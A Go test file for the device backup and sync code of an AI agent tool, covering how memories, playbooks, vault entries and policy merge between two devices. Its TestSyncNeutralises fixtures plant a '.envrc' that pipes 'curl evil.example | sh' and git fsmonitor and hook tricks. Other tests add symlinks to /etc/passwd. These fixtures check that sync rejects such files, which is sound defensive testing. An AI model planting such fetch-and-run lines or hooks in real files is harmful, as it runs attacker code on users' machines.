package backup

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/hobbs-agent/hobbs/src/instance"
	"github.com/hobbs-agent/hobbs/src/memory"
	"github.com/hobbs-agent/hobbs/src/provenance"
	"github.com/hobbs-agent/hobbs/src/vault"
)

// twoDevices makes device laptop (setUp, with playbooks) and device
// desktop, a new machine restored from laptop's snapshot, both backed up
// and laptop synced once from desktop: the bases are set.
func twoDevices(t *testing.T) (a, b instance.Instance, r *Restic) {
	t.Helper()
	a, r = setUp(t, filepath.Join(t.TempDir(), "repo"))
	write(t, a, "playbooks/weekly.md", "# Weekly\n\n1. read the news\n2. write the summary\n3. send it\n")
	write(t, a, "playbooks/daily.md", "# Daily\n\nlook at the calendar\n")
	backupAs(t, a, r, "laptop")
	var err error
	if b, err = instance.At(filepath.Join(t.TempDir(), "hobbs")); err != nil {
		t.Fatal(err)
	}
	if _, err := Restore(context.Background(), RestoreOptions{Instance: b, Restic: r, Device: "desktop", Version: "v1.2.0"}); err != nil {
		t.Fatal(err)
	}
	backupAs(t, b, r, "desktop")
	res := syncAs(t, a, r, "laptop", false)
	if len(res.Changed)+len(res.Held)+len(res.Conflicts)+len(res.VaultConflicts) != 0 || res.Base != "" {
		t.Fatalf("pairing sync changed something: %+v", res)
	}
	return a, b, r
}

func write(t *testing.T, in instance.Instance, rel, text string) {
	t.Helper()
	p := filepath.Join(in.Root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, in instance.Instance, rel string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(in.Root, filepath.FromSlash(rel)))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func backupAs(t *testing.T, in instance.Instance, r *Restic, device string) {
	t.Helper()
	if _, err := Backup(context.Background(), Options{Instance: in, Restic: r, Device: device, Version: "v1.2.0"}); err != nil {
		t.Fatal(err)
	}
}

func syncAs(t *testing.T, in instance.Instance, r *Restic, device string, withPolicy bool) SyncResult {
	t.Helper()
	res, err := Sync(context.Background(), SyncOptions{Instance: in, Restic: r, Device: device, Version: "v1.2.0", WithPolicy: withPolicy})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// texts maps each active memory's text to its reinforced count.
func texts(t *testing.T, in instance.Instance) map[string]int {
	t.Helper()
	es, err := memory.Open(in, nil).List(memory.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]int{}
	for _, e := range es {
		m, err := memory.Open(in, nil).Show(e.ID)
		if err != nil {
			t.Fatal(err)
		}
		out[strings.TrimSpace(m.Body)] = m.Reinforced
	}
	return out
}

func add(t *testing.T, in instance.Instance, text string) string {
	t.Helper()
	res, err := memory.Open(in, nil).Add(text, memory.AddOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return res.ID
}

func reinforce(t *testing.T, in instance.Instance, id, source string) {
	t.Helper()
	if _, err := memory.Open(in, nil).Reinforce(id, source); err != nil {
		t.Fatal(err)
	}
}

// TestSyncTwoDevices: two devices each add and reinforce memories, one
// edits a playbook, both edit another the same place; after each syncs
// from the other both hold the union, reinforcements add up, and the
// playbook changed on both is one conflict in review, naming the device.
func TestSyncTwoDevices(t *testing.T) {
	a, b, r := twoDevices(t)
	res, err := memory.Open(a, nil).Add("the dentist is on Tuesday", memory.AddOptions{Source: "owner"})
	if err != nil {
		t.Fatal(err)
	}
	shared := res.ID
	backupAs(t, a, r, "laptop")
	syncAs(t, b, r, "desktop", false) // desktop gets the shared memory
	backupAs(t, b, r, "desktop")
	syncAs(t, a, r, "laptop", false)

	add(t, a, "the laptop's owner likes green tea")
	reinforce(t, a, shared, "laptop-chat")
	write(t, a, "playbooks/weekly.md", "# Weekly\n\n1. read the news\n2. write the summary\n3. send it by mail\n")
	write(t, a, "playbooks/daily.md", "# Daily\n\nlook at the calendar and the weather\n")
	add(t, b, "the desktop is in the office")
	reinforce(t, b, shared, "desktop-mail")
	write(t, b, "playbooks/daily.md", "# Daily\n\nlook at the calendar and the mail\n")
	backupAs(t, a, r, "laptop")
	backupAs(t, b, r, "desktop")

	ra := syncAs(t, a, r, "laptop", false)
	rb := syncAs(t, b, r, "desktop", false)
	for _, in := range []instance.Instance{a, b} {
		got := texts(t, in)
		for _, want := range []string{"the laptop's owner likes green tea", "the desktop is in the office", "the dentist is on Tuesday"} {
			if _, ok := got[want]; !ok {
				t.Errorf("%s: no memory %q in %v", in.Root, want, got)
			}
		}
		if got["the dentist is on Tuesday"] != 2 {
			t.Errorf("%s: shared memory reinforced %d times, want 2 (one on each device)", in.Root, got["the dentist is on Tuesday"])
		}
		if w := read(t, in, "playbooks/weekly.md"); !strings.Contains(w, "send it by mail") {
			t.Errorf("%s: weekly playbook not merged: %q", in.Root, w)
		}
	}
	if d := read(t, a, "playbooks/daily.md"); !strings.Contains(d, "weather") {
		t.Errorf("laptop's own daily playbook overwritten: %q", d)
	}
	if d := read(t, b, "playbooks/daily.md"); !strings.Contains(d, "the mail") {
		t.Errorf("desktop's own daily playbook overwritten: %q", d)
	}
	for name, res := range map[string]SyncResult{"laptop": ra, "desktop": rb} {
		other := map[string]string{"laptop": "desktop", "desktop": "laptop"}[name]
		if len(res.Held) != 1 || res.Held[0].Path != "playbooks/daily.md" {
			t.Fatalf("%s: held %+v, want the daily playbook", name, res.Held)
		}
		if ses := res.Held[0].Sessions[0]; ses.Origin.Name != other || !strings.Contains(strings.Join(ses.Why, " "), other) {
			t.Errorf("%s: held item does not name device %s: %+v", name, other, ses)
		}
	}
	items, err := provenance.ForReview(a.FS(), nil).List(false)
	if err != nil || len(items) != 1 {
		t.Fatalf("laptop's review: %v %v", items, err)
	}
	_, after, err := provenance.ForReview(a.FS(), nil).Content(items[0].ID)
	if err != nil || !strings.Contains(string(after), "the mail") {
		t.Errorf("held text %q %v, want desktop's", after, err)
	}
	// A second sync of the same snapshots does nothing more.
	if again := syncAs(t, a, r, "laptop", false); !again.UpToDate {
		t.Errorf("sync again: %+v", again)
	}
}

// TestSyncVaultAndPolicy: a vault entry only one device has travels; a
// name with different values is a conflict, never overwritten; policy and
// grants travel only with --with-policy.
func TestSyncVaultAndPolicy(t *testing.T) {
	a, b, r := twoDevices(t)
	va, vb := vault.Open(a), vault.Open(b)
	mustSet := func(v *vault.Vault, name, val string) {
		if _, err := v.Set(name, []byte(val)); err != nil {
			t.Fatal(err)
		}
	}
	mustSet(va, "only-laptop", "L")
	mustSet(va, "github-token", "ghp_laptop")
	mustSet(vb, "github-token", "ghp_desktop")
	pol := read(t, a, "policy.yaml")
	write(t, a, "policy.yaml", pol+"# approved on the laptop\n")
	write(t, a, "grants/weekly.json", "{}\n")
	// A change the laptop holds for review travels to the desktop's review.
	if _, err := provenance.ForReview(a.FS(), nil).HoldSet([]provenance.Session{{Name: "s1", Why: []string{"read example.com"}}},
		[]provenance.Pending{{Path: "playbooks/planted.md", Text: []byte("# Planted\n")}}); err != nil {
		t.Fatal(err)
	}
	backupAs(t, a, r, "laptop")

	res := syncAs(t, b, r, "desktop", false)
	if len(res.Held) != 1 || res.Held[0].Path != "playbooks/planted.md" ||
		!strings.Contains(res.Held[0].Sessions[0].Why[0], "held for review on device laptop") ||
		!strings.Contains(res.Held[0].Sessions[0].Why[0], "read example.com") {
		t.Fatalf("the laptop's held change: %+v", res.Held)
	}
	if _, err := os.Stat(filepath.Join(b.Playbooks(), "planted.md")); err == nil {
		t.Error("a held change was put in effect")
	}
	if fmt.Sprint(res.VaultAdded) != "[only-laptop]" || fmt.Sprint(res.VaultConflicts) != "[github-token]" {
		t.Fatalf("vault: added %v, conflicts %v", res.VaultAdded, res.VaultConflicts)
	}
	if v, err := vb.Get("github-token"); err != nil || string(v) != "ghp_desktop" {
		t.Errorf("desktop's github-token is %q %v: overwritten", v, err)
	}
	if v, err := vb.Get("only-laptop"); err != nil || string(v) != "L" {
		t.Errorf("only-laptop: %q %v", v, err)
	}
	if strings.Contains(read(t, b, "policy.yaml"), "approved on the laptop") {
		t.Error("policy travelled without --with-policy")
	}
	if _, err := os.Stat(filepath.Join(b.Grants(), "weekly.json")); err == nil {
		t.Error("a grant travelled without --with-policy")
	}

	mustSet(va, "another", "x") // a new snapshot to sync from
	backupAs(t, a, r, "laptop")
	res = syncAs(t, b, r, "desktop", true)
	if len(res.Held) != 0 {
		t.Errorf("held again: %+v", res.Held)
	}
	if !strings.Contains(read(t, b, "policy.yaml"), "approved on the laptop") {
		t.Errorf("policy did not travel with --with-policy: %+v", res)
	}
	if read(t, b, "grants/weekly.json") != "{}\n" {
		t.Errorf("grant did not travel with --with-policy")
	}
	if v, err := vb.Get("github-token"); err != nil || string(v) != "ghp_desktop" {
		t.Errorf("desktop's github-token is %q %v: overwritten", v, err)
	}
}

// TestSyncAtOnce: both devices sync at the same time, each from the
// other's latest, and back up after; a second round leaves both with the
// union and nothing lost.
func TestSyncAtOnce(t *testing.T) {
	a, b, r := twoDevices(t)
	for i := 0; i < 3; i++ {
		add(t, a, fmt.Sprintf("laptop fact %d", i))
		add(t, b, fmt.Sprintf("desktop fact %d", i))
	}
	backupAs(t, a, r, "laptop")
	backupAs(t, b, r, "desktop")
	round := func() {
		var wg sync.WaitGroup
		errc := make(chan error, 2)
		for _, d := range []struct {
			in     instance.Instance
			device string
		}{{a, "laptop"}, {b, "desktop"}} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				ctx := context.Background()
				if _, err := Sync(ctx, SyncOptions{Instance: d.in, Restic: r, Device: d.device, Version: "v1.2.0"}); err != nil {
					errc <- fmt.Errorf("%s sync: %w", d.device, err)
					return
				}
				if _, err := Backup(ctx, Options{Instance: d.in, Restic: r, Device: d.device, Version: "v1.2.0"}); err != nil {
					errc <- fmt.Errorf("%s backup: %w", d.device, err)
				}
			}()
		}
		wg.Wait()
		close(errc)
		for err := range errc {
			t.Fatal(err)
		}
	}
	round()
	round()
	ta, tb := texts(t, a), texts(t, b)
	for i := 0; i < 3; i++ {
		for _, w := range []string{fmt.Sprintf("laptop fact %d", i), fmt.Sprintf("desktop fact %d", i)} {
			if _, ok := ta[w]; !ok {
				t.Errorf("laptop lacks %q", w)
			}
			if _, ok := tb[w]; !ok {
				t.Errorf("desktop lacks %q", w)
			}
		}
	}
	if len(ta) != len(tb) {
		t.Errorf("laptop holds %d memories, desktop %d", len(ta), len(tb))
	}
}

func TestPickOther(t *testing.T) {
	snaps := []Snapshot{{ID: "1", Device: "laptop"}, {ID: "2", Device: "desktop"}, {ID: "3", Device: "laptop"}, {ID: "4", Device: "phone"}, {ID: "5", Device: "desktop"}}
	if _, err := pickOther(snaps, "laptop", ""); kindOf(err) != SyncWhich || !strings.Contains(err.Error(), "desktop, phone") {
		t.Errorf("two other devices: %v", err)
	}
	if s, err := pickOther(snaps, "laptop", "desktop"); err != nil || s.ID != "5" {
		t.Errorf("--from desktop: %v %v", s, err)
	}
	if s, err := pickOther(snaps[:3], "laptop", ""); err != nil || s.ID != "2" {
		t.Errorf("the one other: %v %v", s, err)
	}
	if _, err := pickOther(snaps, "laptop", "tablet"); kindOf(err) != SyncNoOther {
		t.Errorf("--from tablet: %v", err)
	}
	if _, err := pickOther(snaps[:1], "laptop", ""); kindOf(err) != SyncNoOther {
		t.Errorf("no other: %v", err)
	}
}

func TestCommonLines(t *testing.T) {
	for _, c := range [][3]string{
		{"a\nb\nc\n", "a\nb\nd\n", "a\nb\n"},
		{"a\nb\n", "a\nb\n", "a\nb\n"},
		{"a\nbc\n", "a\nbd\n", "a\n"},
		{"x\n", "y\n", ""},
		{"a\nb", "a\nb", "a\nb"},
		{"a\nb", "a\nbc", "a\n"},
	} {
		if got := string(commonLines([]byte(c[0]), []byte(c[1]))); got != c[2] {
			t.Errorf("commonLines(%q, %q) = %q, want %q", c[0], c[1], got, c[2])
		}
	}
}

// TestSyncStagesWhatChanged: a sync from a device with a base stages the
// snapshot against it: the files that changed since are the ones listed
// (and written), every other file is the base's own, linked.
func TestSyncStagesWhatChanged(t *testing.T) {
	a, b, r := twoDevices(t)
	id := add(t, a, "the boiler is serviced in May")
	write(t, a, "playbooks/daily.md", "# Daily\n\nlook at the calendar and the boiler\n")
	backupAs(t, a, r, "laptop")
	snaps, err := List(context.Background(), r)
	if err != nil {
		t.Fatal(err)
	}
	snap, err := pickOther(snaps, "desktop", "")
	if err != nil {
		t.Fatal(err)
	}
	base := filepath.Join(SyncBase(b, "laptop"), "instance")
	sg, err := stageSnapshot(context.Background(), r, snap, base, filepath.Join(t.TempDir(), "theirs"))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"memory/active/" + id + ".md", "memory/history.jsonl", "playbooks/daily.md"}
	if fmt.Sprint(sg.Changed) != fmt.Sprint(want) || len(sg.Problems) != 0 {
		t.Fatalf("changed %v problems %v, want %v", sg.Changed, sg.Problems, want)
	}
	fs, err1 := os.Stat(filepath.Join(sg.Dir, "config.yaml"))
	fb, err2 := os.Stat(filepath.Join(base, "config.yaml"))
	if err1 != nil || err2 != nil || !os.SameFile(fs, fb) {
		t.Errorf("config.yaml (read whole): staged is not the base's file (%v %v)", err1, err2)
	}
	if _, err := os.Lstat(filepath.Join(sg.Dir, "playbooks", "weekly.md")); err == nil {
		t.Error("an unchanged playbook was staged")
	}
	if got := read(t, instance.Instance{Root: sg.Dir}, "playbooks/daily.md"); !strings.Contains(got, "boiler") {
		t.Errorf("staged daily playbook %q", got)
	}
	// The sync's kept base is the snapshot: the changed files taken in
	// place, the others as they were.
	syncAs(t, b, r, "desktop", false)
	kept := instance.Instance{Root: base}
	if got := read(t, kept, "playbooks/daily.md"); !strings.Contains(got, "boiler") {
		t.Errorf("kept daily playbook %q", got)
	}
	if got := read(t, kept, "playbooks/weekly.md"); !strings.Contains(got, "send it") {
		t.Errorf("kept weekly playbook %q", got)
	}
	if _, err := os.Stat(filepath.Join(base, "memory", "active", id+".md")); err != nil {
		t.Errorf("the new memory is not in the kept base: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(SyncBase(b, "laptop"), keptPrevious)); err == nil {
		t.Error("the previous base was left after the sync")
	}
}

// TestSyncTakesWhatReads: a snapshot of the other device holding a link
// and a memory that does not parse: both are reported and neither lands
// here; the rest of the snapshot merges.
func TestSyncTakesWhatReads(t *testing.T) {
	a, b, r := twoDevices(t)
	add(t, a, "the car is due for its inspection")
	write(t, a, "memory/active/mem_broken_001.md", "this is not a memory\n")
	if err := os.Symlink("/etc/passwd", filepath.Join(a.Root, "playbooks", "passwd.md")); err != nil {
		t.Fatal(err)
	}
	// A file of the base that is a link in the snapshot is not a removal.
	daily := read(t, b, "playbooks/daily.md")
	if err := os.Remove(filepath.Join(a.Root, "playbooks", "daily.md")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(a.Root, "playbooks", "daily.md")); err != nil {
		t.Fatal(err)
	}
	backupAs(t, a, r, "laptop")
	res := syncAs(t, b, r, "desktop", false)
	if got := read(t, b, "playbooks/daily.md"); got != daily {
		t.Errorf("daily playbook here %q, want it as it was (%q)", got, daily)
	}
	if _, ok := texts(t, b)["the car is due for its inspection"]; !ok {
		t.Errorf("the good memory was not merged: %+v", res)
	}
	problems := strings.Join(res.Problems, "\n")
	if !strings.Contains(strings.Join(res.Problems, "\n"), "playbooks/daily.md") {
		t.Errorf("no problem names the linked daily playbook: %q", res.Problems)
	}
	for _, p := range []string{"memory/active/mem_broken_001.md", "playbooks/passwd.md"} {
		if !strings.Contains(problems, p) {
			t.Errorf("no problem names %s: %q", p, problems)
		}
		if _, err := os.Lstat(filepath.Join(b.Root, p)); err == nil {
			t.Errorf("%s landed here", p)
		}
	}
}

// TestSyncFailureCountsOnce: a sync that fails after its memories merged
// (merged), or after it recorded the new base and before its memories
// merged (memory), is retried: a memory reinforced on both devices counts
// the other device's reinforcement once, and nothing is lost.
func TestSyncFailureCountsOnce(t *testing.T) {
	for _, point := range []string{"merged", "memory"} {
		t.Run(point, func(t *testing.T) {
			a, b, r := twoDevices(t)
			id := add(t, a, "the plants are watered on Sundays")
			backupAs(t, a, r, "laptop")
			syncAs(t, b, r, "desktop", false)
			reinforce(t, a, id, "laptop-chat")
			reinforce(t, b, id, "desktop-mail")
			add(t, a, "the bins go out on Thursday")
			backupAs(t, a, r, "laptop")
			syncFault = func(p string) error {
				if p == point {
					return errors.New("injected failure at " + p)
				}
				return nil
			}
			_, err := Sync(context.Background(), SyncOptions{Instance: b, Restic: r, Device: "desktop", Version: "v1.2.0"})
			syncFault = nil
			if err == nil || !strings.Contains(err.Error(), "injected") {
				t.Fatalf("the sync did not fail where injected: %v", err)
			}
			syncAs(t, b, r, "desktop", false)
			m, err := memory.Open(b, nil).Show(id)
			if err != nil {
				t.Fatal(err)
			}
			if m.Reinforced != 2 {
				t.Errorf("reinforced %d times after the retry, want 2 (one on each device)", m.Reinforced)
			}
			if _, ok := texts(t, b)["the bins go out on Thursday"]; !ok {
				t.Error("a memory added on the laptop was lost")
			}
			if again := syncAs(t, b, r, "desktop", false); !again.UpToDate {
				t.Errorf("a third sync: %+v", again)
			}
		})
	}
}

// TestSyncNeutralises: a snapshot of the other device carrying what host
// tools act on in the parts a sync takes (a .envrc in the memory, a .git
// in a playbooks directory, a .vscode in a skill) lands none of it here: each is reported, and the rest merges.
func TestSyncNeutralises(t *testing.T) {
	a, b, r := twoDevices(t)
	add(t, a, "the window cleaner comes monthly")
	write(t, a, "memory/.envrc", "curl evil.example | sh\n")
	write(t, a, "playbooks/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
	write(t, a, "playbooks/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n")
	write(t, a, "skills/notes/.vscode/tasks.json", "{}\n")
	write(t, a, "skills/notes/SKILL.md", "# Notes\n")
	backupAs(t, a, r, "laptop")
	res := syncAs(t, b, r, "desktop", false)
	if _, ok := texts(t, b)["the window cleaner comes monthly"]; !ok {
		t.Errorf("the memory was not merged: %+v", res)
	}
	if read(t, b, "skills/notes/SKILL.md") != "# Notes\n" {
		t.Error("the skill was not merged")
	}
	problems := strings.Join(res.Problems, "\n")
	for _, p := range []string{"memory/.envrc", "playbooks/.git", "skills/notes/.vscode"} {
		if !strings.Contains(problems, p) {
			t.Errorf("no problem names %s: %q", p, problems)
		}
		if _, err := os.Lstat(filepath.Join(b.Root, p)); err == nil {
			t.Errorf("%s landed here", p)
		}
		if _, err := os.Lstat(filepath.Join(SyncBase(b, "laptop"), "instance", p)); err == nil {
			t.Errorf("%s is in the kept base", p)
		}
	}
}

// TestSyncTypeChange: a directory of the base that is a file in the
// snapshot, and a file that is a directory, do not merge (each path is
// reported, this device's left as it is), and the sync keeps the
// snapshot as the next base.
func TestSyncTypeChange(t *testing.T) {
	a, b, r := twoDevices(t)
	write(t, a, "skills/notes/SKILL.md", "# Notes\n")
	write(t, a, "agents/helper.md", "# Helper\n")
	backupAs(t, a, r, "laptop")
	syncAs(t, b, r, "desktop", false)
	if err := os.RemoveAll(filepath.Join(a.Root, "skills", "notes")); err != nil {
		t.Fatal(err)
	}
	write(t, a, "skills/notes", "now a file\n")
	if err := os.Remove(filepath.Join(a.Root, "agents", "helper.md")); err != nil {
		t.Fatal(err)
	}
	write(t, a, "agents/helper.md/README.md", "now a directory\n")
	backupAs(t, a, r, "laptop")
	res := syncAs(t, b, r, "desktop", false)
	problems := strings.Join(res.Problems, "\n")
	for _, p := range []string{"skills/notes:", "skills/notes/SKILL.md:", "agents/helper.md:", "agents/helper.md/README.md:"} {
		if !strings.Contains(problems, p) {
			t.Errorf("no problem names %s: %q", p, problems)
		}
	}
	if read(t, b, "skills/notes/SKILL.md") != "# Notes\n" || read(t, b, "agents/helper.md") != "# Helper\n" {
		t.Error("this device's files changed")
	}
	kept := instance.Instance{Root: filepath.Join(SyncBase(b, "laptop"), keptInstance)}
	if got := read(t, kept, "skills/notes"); got != "now a file\n" {
		t.Errorf("kept skills/notes %q", got)
	}
	if got := read(t, kept, "agents/helper.md/README.md"); got != "now a directory\n" {
		t.Errorf("kept agents/helper.md/README.md %q", got)
	}
}
